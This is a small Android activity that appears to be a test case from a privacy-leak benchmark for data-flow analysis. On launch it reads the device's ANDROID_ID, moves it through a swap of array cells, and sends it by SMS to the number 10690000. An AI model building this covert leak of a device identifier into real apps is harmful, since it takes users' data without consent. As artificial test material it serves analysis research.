package cn.privlens.suite.cells_exchanged;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;

public class Main extends Activity {
    private static void exchange(String[] cells, int a, int b) {
        String kept = cells[a];
        cells[a] = cells[b];
        cells[b] = kept;
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String[] cells = new String[2];
        cells[0] = Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID);
        cells[1] = "plain";
        exchange(cells, 0, 1);
        SmsManager.getDefault().sendTextMessage("10690000", null, cells[1], null, null);
    }
}
